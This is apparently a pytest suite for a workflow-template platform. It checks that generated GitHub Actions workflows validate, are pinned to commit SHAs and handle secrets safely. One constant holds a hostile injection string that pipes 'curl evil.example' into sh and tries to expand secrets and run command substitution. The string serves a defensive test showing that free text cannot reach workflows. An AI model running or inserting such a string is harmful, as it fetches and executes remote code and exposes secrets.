"""The platform's workflows and every project's callers: sound, pinned, and in agreement."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml

from modelwright.template.generated.package_manifest import OURS
from tests.templates.real_tools import workflows
from tests.templates.real_tools.github_parser import findings
from tests.templates.real_tools.toolbox import run, tool
from tests.templates.rendering import (
    CASES,
    REPOSITORY,
    policy_for,
    render,
    render_under,
    sample_of,
    sample_policy,
)

pytestmark = pytest.mark.tools

COMMIT = re.compile(r"[0-9a-f]{40}")
FREE_TEXT = "x\"; curl evil.example | sh #' ${{ secrets.ALL }} $(id) `id`"


@pytest.fixture(scope="module")
def projects(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """One project of every archetype and variation."""
    return [
        render(case[0], tmp_path_factory.mktemp("project"), **sample_of(*case)) for case in CASES
    ]


@pytest.fixture(scope="module")
def files(projects: list[Path]) -> list[Path]:
    """Every workflow, ours and theirs."""
    callers = [f for p in projects for f in sorted((p / ".github/workflows").iterdir())]
    return sorted(workflows.REUSABLE.glob("*.yml")) + callers


def test_every_workflow_and_action_has_a_valid_form(files: list[Path]) -> None:
    checker = tool("check-jsonschema")
    actions = sorted(workflows.ACTIONS.rglob("action.yml"))

    run(checker, "--builtin-schema", "vendor.github-workflows", *files)
    run(checker, "--builtin-schema", "vendor.github-actions", *actions)


def test_actionlint_and_shellcheck_find_nothing(files: list[Path]) -> None:
    tool("shellcheck")

    run(tool("actionlint"), *files, cwd=REPOSITORY)


def test_zizmor_finds_nothing_at_its_strictest(files: list[Path]) -> None:
    actions = sorted(workflows.ACTIONS.rglob("action.yml"))

    run(tool("zizmor"), "--offline", "--persona", "pedantic", *files, *actions)


def test_github_s_own_parser_finds_nothing(files: list[Path]) -> None:
    actions = sorted(workflows.ACTIONS.rglob("action.yml"))

    assert findings([*files, *actions, REPOSITORY / "action.yml"]) == []


def test_github_s_own_parser_holds_a_call_against_what_it_calls(
    projects: list[Path], tmp_path: Path
) -> None:
    text = (projects[0] / ".github/workflows/ci.yml").read_text()
    spoiled = tmp_path / ".github/workflows/ci.yml"
    spoiled.parent.mkdir(parents=True)
    spoiled.write_text(text.replace("      runner: ", "      ruhner: ").replace("github.ref", "githb.ref"))

    found = "\n".join(findings([spoiled]))

    assert "Invalid input, ruhner is not defined in the referenced workflow" in found
    assert "Unrecognized named-value: 'githb'" in found


def test_an_ignored_finding_has_its_reason_beside_it(files: list[Path]) -> None:
    for file in files:
        for line in file.read_text().splitlines():
            if "zizmor: ignore" in line:
                assert re.search(r"zizmor: ignore\[[\w-]+\] \w+", line), f"{file.name}: {line}"


def test_every_action_of_a_third_party_is_pinned_as_the_policy_lists_it(
    projects: list[Path],
) -> None:
    policy = sample_policy()
    listed = {a["uses"]: (a["sha"], a["version"]) for a in policy["available"]["actions"].values()}
    folders = [workflows.REUSABLE, workflows.ACTIONS, *(p / ".github" for p in projects)]

    for file, what, sha, version in workflows.pins(*folders):
        assert COMMIT.fullmatch(sha), f"{file}: {what}@{sha}"
        ours = f".github/workflows/{file}" in OURS
        if not (ours or what.startswith(policy["platform"]["repository"])):
            assert listed.get(what) == (sha, version), f"{file}: {what}"


def test_projects_call_the_platform_at_its_one_pin(projects: list[Path]) -> None:
    pin = yaml.safe_load((REPOSITORY / "templates/_shared/workflows.json").read_text())
    platform = sample_policy()["platform"]["repository"]
    for project in projects:
        ours = [p for p in workflows.pins(project / ".github") if p[1].startswith(platform)]

        assert ours
        assert {(sha, version) for _, _, sha, version in ours} == {(pin["sha"], pin["version"])}


def test_caller_and_callee_agree_on_inputs_secrets_and_permissions(projects: list[Path]) -> None:
    for project in projects:
        for call in workflows.calls(project):
            asked = workflows.callee(call)
            inputs, secrets = asked.get("inputs", {}), asked.get("secrets", {})
            given = call.body.get("with", {})
            assert given.keys() <= inputs.keys(), call
            assert {n for n, i in inputs.items() if i.get("required")} <= given.keys(), call
            kinds: dict[str, type] = {"string": str, "boolean": bool, "number": int}
            assert all(isinstance(v, kinds[inputs[n]["type"]]) for n, v in given.items()), call
            assert call.body.get("secrets", {}).keys() <= secrets.keys(), call
            assert {n for n, s in secrets.items() if s.get("required")} <= call.body.get(
                "secrets", {}
            ).keys(), call
            granted, wanted = workflows.granted_and_asked(call)
            assert wanted.items() <= granted.items(), call


def test_a_pull_request_needs_no_secret_no_variable_and_no_identity(projects: list[Path]) -> None:
    for project in projects:
        text = (project / ".github/workflows/ci.yml").read_text()

        assert not workflows.REFERENCE.search(text)
        assert "write" not in text


def test_every_listed_secret_is_referred_to_and_no_other(projects: list[Path]) -> None:
    for project in projects:
        manifest = yaml.safe_load((project / "secrets.yaml").read_text())["secrets"]
        assert workflows.references(project / ".github/workflows") == {s["name"] for s in manifest}


def test_secrets_are_passed_by_name_and_never_inherited(files: list[Path]) -> None:
    assert not [file for file in files if re.search(r"secrets:\s*inherit", file.read_text())]


@pytest.mark.parametrize(
    ("archetype", "options", "first"),
    [
        ("online-serving", {}, "image"),
        ("batch", {}, "image"),
        ("batch", {"databricks": True}, "policy"),
        ("streaming-recommendation", {"databricks": True}, "image"),
    ],
)
def test_environments_are_deployed_in_the_policy_s_order(
    tmp_path: Path, archetype: str, options: dict[str, bool], first: str
) -> None:
    project = render_under(policy_for("test", "live"), archetype, tmp_path, **options)

    jobs = workflows.read(project / ".github/workflows/deploy.yml")["jobs"]
    order = ["policy", *([first] if first == "image" else []), "deploy-test", "deploy-live"]
    assert list(jobs) == order
    assert jobs[order[1]]["needs"] in ("policy", ["policy"])
    assert first in jobs["deploy-test"]["needs"]
    assert "deploy-test" in jobs["deploy-live"]["needs"]


def test_each_place_is_deployed_to_by_its_own_workflow(tmp_path: Path) -> None:
    cluster = render("batch", tmp_path / "cluster")
    bundle = render("batch", tmp_path / "bundle", databricks=True)

    def called(project: Path) -> set[str]:
        return {call.workflow for call in workflows.calls(project)}

    everywhere = {"audit.yml", "python-ci.yml", "promote-model.yml", "rollback-model.yml"}
    assert called(cluster) == everywhere | {"build-image.yml", "deploy-kubernetes.yml"}
    assert called(bundle) == everywhere | {"deploy-databricks.yml"}


@pytest.mark.parametrize(
    ("archetype", "options"),
    [
        ("online-serving", {}),
        ("batch", {}),
        ("batch", {"databricks": True}),
        ("streaming-recommendation", {"databricks": True, "dashboards": True}),
    ],
)
def test_free_text_reaches_no_workflow_no_image_and_no_manifest(
    tmp_path: Path, archetype: str, options: dict[str, bool]
) -> None:
    plain = render(archetype, tmp_path / "plain", description="plain", **options)
    hostile = render(archetype, tmp_path / "hostile", description=FREE_TEXT, **options)

    parts = (".github/workflows", "deploy", "monitoring", "resources", "Dockerfile")
    for file in [plain / "databricks.yml", *(f for p in parts for f in within(plain / p))]:
        if file.is_file():
            assert (hostile / file.relative_to(plain)).read_bytes() == file.read_bytes()


def within(place: Path) -> list[Path]:
    return [place, *place.rglob("*")]
